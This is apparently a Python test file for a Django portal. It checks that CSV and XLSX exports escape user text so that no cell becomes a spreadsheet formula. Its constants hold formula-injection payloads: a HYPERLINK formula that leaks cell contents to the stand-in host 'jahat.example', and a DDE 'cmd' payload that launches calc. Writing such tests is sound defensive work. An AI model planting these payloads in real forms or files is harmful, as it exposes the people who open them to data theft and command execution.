"""No text of the portal becomes a formula on the reader's machine: from the form to the cells of the exported file."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from typing import TYPE_CHECKING, Any

import pytest

from activities.models import Activity
from gsbpm_portal.core import jobs
from gsbpm_portal.core.models import Job
from tests import factories
from tests.fuzz.html_forms import read
from tests.fuzz.posting import post, run, signed_in

if TYPE_CHECKING:
    from tests.factories import World

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("https://jahat.example/?"&A1;"Klik")'
OTHERS = ("+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1", "  =1+1")
CHANGE = "/kegiatan/IKAN/ubah/"
LISTS = [
    "/kegiatan/ekspor/",
    "/kegiatan/jadwal/ekspor/?tahun=2026",
    "/kegiatan/IKAN/2026/jadwal/ekspor/",
    "/kegiatan/IKAN/2026/garis-waktu/ekspor/",
]


@pytest.fixture(scope="module")
def built_world(django_db_setup: None, django_db_blocker: Any) -> Iterator[World]:
    from django.db import transaction

    from tests.fuzz.office import block

    with django_db_blocker.unblock(), block():
        world = factories.make_world()
        world.bring("1.1", "dikerjakan")
        staf = signed_in(world, "staf")
        forms, _addresses = read(staf.get(CHANGE).content.decode())
        form = next(form for form in forms if "title" in form.controls)
        data = {name: control.values[-1] for name, control in form.controls.items() if control.values}
        assert post(staf, CHANGE, {**data, "title": FORMULA, "token": ""}).status_code == 400
        assert (
            post(staf, CHANGE, {**{k: v for k, v in data.items() if k != "token"}, "title": FORMULA}).status_code == 302
        )
        for place, words in enumerate(OTHERS, 1):
            tail = f"tugas/1.1.{place % 3 + 1}/"
            assert post(staf, run("1.1", tail), {"note": words, "seen": str(place // 4)}).status_code in (302, 409)
        yield world
        transaction.set_rollback(True)


@pytest.fixture
def world(built_world: World, db: None) -> World:
    return built_world


def exported(world: World, address: str, kind: str) -> bytes:
    """The file of an export, fetched as a person does."""
    staf = signed_in(world, "staf")
    response = post(staf, address, {"format": kind})
    assert response.status_code == 302, response.content.decode()[:500]
    jobs.run_pending()
    job = Job.objects.get(public_id=response.headers["Location"].strip("/").split("/")[-1])
    assert job.state == "succeeded", job.error
    result = staf.get(f"{response.headers['Location']}hasil/")
    assert result.status_code == 200
    assert result.headers["Content-Disposition"].startswith("attachment")
    return b"".join(result.streaming_content)


def is_formula(text: str) -> bool:
    return text.lstrip(" \u00a0\ufeff").startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"))


def test_the_title_is_kept_as_it_was_typed(world: World) -> None:
    assert Activity.objects.get(code="IKAN").title == FORMULA


@pytest.mark.parametrize("address", LISTS)
def test_no_cell_of_a_csv_is_a_formula(world: World, address: str) -> None:
    content = exported(world, address, "csv").decode("utf-8-sig")
    dialect = csv.Sniffer().sniff(content, delimiters=",;")
    cells = [cell for row in csv.reader(io.StringIO(content), dialect) for cell in row]
    assert len(cells) > 15
    numbers = [cell for cell in cells if is_formula(cell) and cell.lstrip("-").replace(",", "").isdigit()]
    assert [cell for cell in cells if is_formula(cell) and cell not in numbers] == []
    if "jadwal" not in address:
        assert any(cell.startswith("'") for cell in cells), "the guarded text is in it"


@pytest.mark.parametrize("address", LISTS)
def test_no_cell_of_a_workbook_is_a_formula(world: World, address: str) -> None:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(exported(world, address, "xlsx")))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert len(cells) > 15
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = [str(cell.value) for cell in cells if cell.data_type == "s"]
    assert [value for value in texts if is_formula(value) and not is_guarded(cells, value)] == []


def is_guarded(cells: list[Any], value: str) -> bool:
    """A text that starts like a formula is harmless in a workbook where its cell says that it is a text."""
    return all(cell.quotePrefix or cell.data_type == "s" for cell in cells if str(cell.value) == value)
